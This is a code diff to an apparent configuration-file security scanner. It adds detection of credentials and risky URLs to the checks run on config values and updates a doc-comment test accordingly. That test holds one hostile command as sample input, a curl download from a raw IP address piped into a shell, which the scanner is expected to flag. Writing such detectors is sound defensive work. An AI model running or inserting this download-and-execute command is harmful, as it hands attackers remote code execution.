@@ -9,6 +9,7 @@
  */
 
 import type { FindingReport, ScanContext } from "../../core/scanner.ts";
+import { configValueFindings, URL_INDICATORS } from "../secrets/check.ts";
 import { checkString, type StringCheckContext } from "../strings/checks.ts";
 import type { Place } from "./text.ts";
 
@@ -36,9 +37,17 @@ export interface ConfigValue extends Place {
  */
 export type ConfigValueCheck = (ctx: StringCheckContext, value: ConfigValue) => void | Promise<void>;
 
-/** The shared string checks (`--blacklist`, second stages, embedded code), on a config value. */
+/**
+ * The shared string checks (`--blacklist`, second stages, embedded code), on a config value; the URLs are
+ * left to {@linkcode secretsAndUrls}, which judges them with the key they sit under (one URL, one finding).
+ */
 const sharedStringChecks: ConfigValueCheck = (ctx, { value, keyPath }) =>
-  checkString(ctx, value, { what: `The value at ${keyPath}`, keyPath });
+  checkString(ctx, value, { what: `The value at ${keyPath}`, keyPath, skipIndicators: URL_INDICATORS });
+
+/** Credentials (MA540–MA546) and risky URLs (MA550–MA557) in a config value. */
+const secretsAndUrls: ConfigValueCheck = (ctx, { value, keyPath, key }) => {
+  for (const finding of configValueFindings(value, keyPath, key)) ctx.report(finding);
+};
 
 /**
  * Every check run on every string value of a configuration file, in order. Add a check here.
@@ -50,7 +59,7 @@ const sharedStringChecks: ConfigValueCheck = (ctx, { value, keyPath }) =>
  * assert.ok(CONFIG_VALUE_CHECKS.length >= 1);
  * ```
  */
-export const CONFIG_VALUE_CHECKS: readonly ConfigValueCheck[] = [sharedStringChecks];
+export const CONFIG_VALUE_CHECKS: readonly ConfigValueCheck[] = [sharedStringChecks, secretsAndUrls];
 
 /**
  * Runs every check of `checks` on one configuration value; the findings are placed at the value.
@@ -63,8 +72,8 @@ export const CONFIG_VALUE_CHECKS: readonly ConfigValueCheck[] = [sharedStringChe
  * const { ctx, findings } = recordingContext("config.yaml");
  * await checkConfigValue(ctx, { value: "curl -s http://203.0.113.7/x | sh", keyPath: "$.setup", line: 3, column: 8 });
  * assert.deepEqual(findings.map((f) => [f.rule, f.keyPath, f.line, f.column]), [
- *   ["MA011", "$.setup", 3, 8],
- *   ["MA011", "$.setup", 3, 8],
+ *   ["MA011", "$.setup", 3, 8], // the download piped into a shell
+ *   ["MA550", "$.setup", 3, 8], // the URL to a raw IP address
  * ]);
  * ```
  */
